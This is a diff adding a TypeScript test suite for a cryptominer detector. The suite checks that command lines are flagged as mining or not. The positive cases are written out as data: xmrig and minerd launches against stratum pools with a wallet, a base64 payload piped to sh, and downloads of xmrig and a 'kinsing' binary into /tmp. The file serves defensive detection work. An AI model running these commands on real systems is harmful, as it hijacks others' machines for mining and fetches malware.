@@ -1,0 +1,55 @@
+import { strict as assert } from 'node:assert';
+import { isMiner, minerIn } from '../../../shared/detection/miner.ts';
+
+const WALLET = `4${'A'.repeat(94)}`;
+const MINES = [
+  './xmrig',
+  '/usr/local/bin/xmrig-6.21.0 -c config.json',
+  'sh -c cd /tmp && nohup ./minerd -a scrypt &',
+  './kworker --donate-level 1',
+  './kworker --cpu-max-threads-hint=70',
+  './kworker --randomx-1gb-pages',
+  './a -a rx/0 -o host.example.com:443',
+  './a --algo=kawpow',
+  './a -o pool.example.com:80 -u x',
+  './a stratum+tcp://host.example.com:80',
+  './a stratum2+ssl://host.example.com:80',
+  './a -o gulf.moneroocean.stream:10128',
+  `./a -o 203.0.113.9:443 -u ${WALLET}`,
+  `echo ${Buffer.from('./a -o stratum+tcp://h.example.com:1').toString('base64')} | base64 -d | sh`,
+  'wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz',
+  'curl -sL https://example.com/kinsing -o /tmp/k',
+];
+const DOES_NOT = [
+  'ls',
+  'ps aux | grep xmrig',
+  'pgrep -f xmrig|minerd',
+  'kill -9 $(pgrep xmrig)',
+  'rm -rf /tmp/xmrig',
+  'find / -name xmrig',
+  "grep -r 'stratum+tcp' /var/log",
+  'curl https://nanopool.org',
+  'nslookup pool.supportxmr.com:3333',
+  'java -jar app.jar --algo=rsa --cpu-limit 2',
+  'python train.py -a randomforest',
+  'curl -o pool.json https://example.com/pools',
+  `echo ${WALLET}`,
+  'curl notnanopool.org:443',
+];
+
+describe('a miner in a command line', () => {
+  for (const line of MINES) it(`is seen: ${line.slice(0, 70)}`, () => assert.notEqual(minerIn(line), undefined));
+  for (const line of DOES_NOT) it(`is none: ${line.slice(0, 70)}`, () => assert.equal(minerIn(line), undefined));
+});
+
+describe('the name of a program that mines', () => {
+  it('may have a version or an ending', () => {
+    for (const name of ['xmrig', 'XMRig', 'xmrig-6.21.0', 'xmrig_v6', 'xmr-stak', 't-rex', 'xmrig.exe']) {
+      assert.equal(isMiner(name), true, name);
+    }
+  });
+
+  it('is not that of another program', () => {
+    for (const name of ['xmrigger', 'trex', 'miner', 'minder', '6.21', '']) assert.equal(isMiner(name), false, name);
+  });
+});
